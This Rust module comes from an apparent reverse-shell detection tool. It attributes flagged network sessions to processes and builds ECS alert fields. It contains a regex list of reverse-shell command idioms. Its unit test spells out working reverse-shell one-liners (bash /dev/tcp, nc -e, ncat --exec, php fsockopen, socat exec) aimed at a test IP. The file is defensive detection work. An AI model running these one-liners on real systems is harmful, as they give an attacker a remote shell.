//! Attribution: from a flagged session to the process on the shell side, with the facts
//! the verdict needs (shell or interpreter, exposed-service ancestry, stdio on the socket,
//! a reverse-shell command line, known automation) and the ECS fields for the alert.

use super::cache::{Holding, InventoryCache};
use crate::config::ProcessLists;
use crate::context::resolve::Context;
use crate::detect::Detection;
use crate::inventory::{InventoryRecord, ProcessInfo};
use crate::report::{Attribution, Attributor};
use crate::time::Span;
use crate::verdict::ProcessFacts;
use regex::RegexSet;
use serde_json::{json, Value};
use std::sync::{Arc, Mutex, OnceLock};

/// How far an agent's sighting may lie outside the session's span and still count: the
/// agent refreshes every second or so, and clocks differ a little.
const SLACK: Span = Span::from_secs(5);

/// Command-line idioms of reverse shells (Falco's and Sigma's lists, anchors.md).
const SUSPICIOUS: &[&str] = &[
    r"/dev/tcp/",
    r"/dev/udp/",
    r"\bnc(\.traditional|\.openbsd)?\s(.*\s)?-[a-z]*[ec]\b",
    r"\bncat\s(.*\s)?(-e|--exec|-c|--sh-exec)\b",
    r"\b(ba|da|z|k)?sh\s+-i\b",
    r"import\s+(socket|pty)",
    r"pty\.spawn",
    r"\bperl\b.*\bSocket\b",
    r"\bphp\b.*fsockopen",
    r"\bruby\b.*-rsocket",
    r"\bmkfifo\b",
    r"\bsocat\b.*\bexec:",
    r"\bopenssl\s+s_client\b",
];

fn suspicious() -> &'static RegexSet {
    static S: OnceLock<RegexSet> = OnceLock::new();
    S.get_or_init(|| RegexSet::new(SUSPICIOUS).expect("static regexes compile"))
}

/// Attributes detections from an inventory cache that agents (or a recorded file) fill.
pub struct InventoryAttributor {
    cache: Arc<Mutex<InventoryCache>>,
    context: Arc<Context>,
}

impl InventoryAttributor {
    pub fn new(cache: Arc<Mutex<InventoryCache>>, context: Arc<Context>) -> Self {
        InventoryAttributor { cache, context }
    }
}

impl Attributor for InventoryAttributor {
    fn attribute(&mut self, d: &Detection) -> Option<Attribution> {
        let shell = if d.shell_side == crate::evidence::Dir::Orig { d.source } else { d.destination };
        let remote = if d.shell_side == crate::evidence::Dir::Orig { d.destination } else { d.source };
        let cache = self.cache.lock().ok()?;
        let found = cache.lookup(
            (shell.ip, shell.port),
            (remote.ip, remote.port),
            d.session_start - SLACK,
            d.decided_at + SLACK,
        );
        let lists = self.context.policy.process_lists();
        let best = found.into_iter().filter(|h| h.record.process.is_some()).max_by_key(|h| rank(h, lists))?;
        Some(describe(&best.record, lists))
    }
}

/// Prefers the process whose stdin/stdout is this very socket (the shell, not the `nc`
/// that forked it), then shells and interpreters, then the most recent sighting.
fn rank(h: &Holding, lists: &ProcessLists) -> (bool, bool, i64) {
    let p = h.record.process.as_deref();
    let inode = h.record.socket.inode;
    let on_stdio = p.is_some_and(|p| {
        p.std_sockets.stdin_inode == Some(inode) || p.std_sockets.stdout_inode == Some(inode)
    });
    let shellish = p.is_some_and(|p| lists.is_shell(&p.name) || lists.is_interpreter(&p.name));
    (on_stdio, shellish, h.last_seen.as_nanos())
}

/// Builds the verdict's process facts and the alert's ECS fields from one record.
pub fn describe(rec: &InventoryRecord, lists: &ProcessLists) -> Attribution {
    let p: &ProcessInfo = rec.process.as_deref().expect("caller checked");
    let inode = rec.socket.inode;
    let shellish = lists.is_shell(&p.name) || lists.is_interpreter(&p.name);
    let exposed_ancestor = p
        .ancestors
        .iter()
        .find(|a| lists.is_exposed_process(&a.name, Some(&a.args.join(" "))))
        .map(|a| a.name.clone());
    let stdio_on_socket =
        p.std_sockets.stdin_inode == Some(inode) || p.std_sockets.stdout_inode == Some(inode);
    let command_lines =
        std::iter::once(p.command_line.clone()).chain(p.ancestors.iter().take(3).map(|a| a.args.join(" ")));
    let suspicious_command_line = command_lines.into_iter().any(|c| suspicious().is_match(&c));
    let trusted_automation = std::iter::once(p.name.as_str())
        .chain(p.ancestors.iter().map(|a| a.name.as_str()))
        .find(|n| lists.is_trusted_automation(n))
        .map(str::to_string);
    let facts = ProcessFacts {
        shell_or_interpreter: shellish.then(|| p.name.clone()),
        exposed_ancestor,
        stdio_on_socket,
        suspicious_command_line,
        trusted_automation,
    };

    let mut process = json!({
        "pid": p.pid,
        "name": p.name,
        "command_line": p.command_line,
        "args": p.args,
        "args_count": p.args.len(),
    });
    let obj = process.as_object_mut().expect("object");
    if let Some(exe) = &p.executable {
        obj.insert("executable".into(), json!(exe));
    }
    if let Some(cwd) = &p.working_directory {
        obj.insert("working_directory".into(), json!(cwd));
    }
    if let Some(start) = &p.start {
        obj.insert("start".into(), json!(start));
    }
    if let Some(tty) = &p.tty {
        obj.insert("tty".into(), json!({ "name": tty }));
    }
    if let Some(parent) = &p.parent {
        obj.insert(
            "parent".into(),
            json!({ "pid": parent.pid, "name": parent.name, "command_line": parent.command_line }),
        );
    }
    if let Some(leader) = p.ancestors.last() {
        obj.insert("group_leader".into(), json!({ "pid": leader.pid, "name": leader.name }));
    }
    let ancestry: Vec<Value> =
        p.ancestors.iter().map(|a| json!({ "pid": a.pid, "name": a.name, "args": a.args })).collect();
    let mut ecs = json!({
        "process": process,
        "user": { "id": p.user.id.to_string(), "name": p.user.name },
        "host": { "name": rec.host.name, "boot": { "id": rec.host.boot_id } },
        "shellsight": {
            "process": {
                "ancestry": ancestry,
                "std_sockets": p.std_sockets,
                "exe_deleted": p.exe_deleted,
                "socket": { "inode": inode, "netns": rec.network.netns, "state": rec.socket.state },
            }
        },
    });
    let root = ecs.as_object_mut().expect("object");
    if let Some(c) = &rec.container {
        root.insert(
            "container".into(),
            json!({ "id": c.id, "runtime": c.runtime, "name": c.name, "image": { "name": c.image.as_ref().map(|i| &i.name) } }),
        );
    }
    if let Some(o) = &rec.orchestrator {
        root.insert(
            "orchestrator".into(),
            json!({
                "type": "kubernetes",
                "namespace": o.namespace,
                "resource": { "type": "pod", "name": o.resource.name, "id": o.resource.uid },
                "service_account": o.service_account,
            }),
        );
    }

    let chain: Vec<&str> = p.ancestors.iter().map(|a| a.name.as_str()).collect();
    let summary = format!(
        "{} pid {} ({}) user {} on {} — parents: {}",
        p.name,
        p.pid,
        truncate(&p.command_line, 60),
        p.user.name.as_deref().unwrap_or("?"),
        rec.host.name,
        chain.join(" < ")
    );
    Attribution {
        facts,
        ecs,
        summary,
        process_name: Some(p.name.clone()),
        parent_name: p.parent.as_ref().map(|x| x.name.clone()),
        command_line: Some(p.command_line.clone()),
    }
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(n).collect::<String>())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shell_command_lines_are_recognised() {
        let s = suspicious();
        for c in [
            "bash -c bash -i >& /dev/tcp/198.19.0.66/4444 0>&1",
            "nc.traditional -e /bin/sh 198.19.0.66 4444",
            "ncat --ssl -e /bin/bash 198.19.0.66 8443",
            "python3 -c import socket,subprocess,os;s=socket.socket()",
            "php -r $sock=fsockopen(\"198.19.0.66\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            "socat exec:bash -li,pty,stderr tcp:198.19.0.66:4445",
        ] {
            assert!(s.is_match(c), "{c}");
        }
        for c in [
            "/usr/sbin/nginx -g daemon off;",
            "bash /usr/local/bin/backup.sh",
            "ssh -tt admin@10.0.0.1",
            "ncat -l 8080",
        ] {
            assert!(!s.is_match(c), "{c}");
        }
    }
}
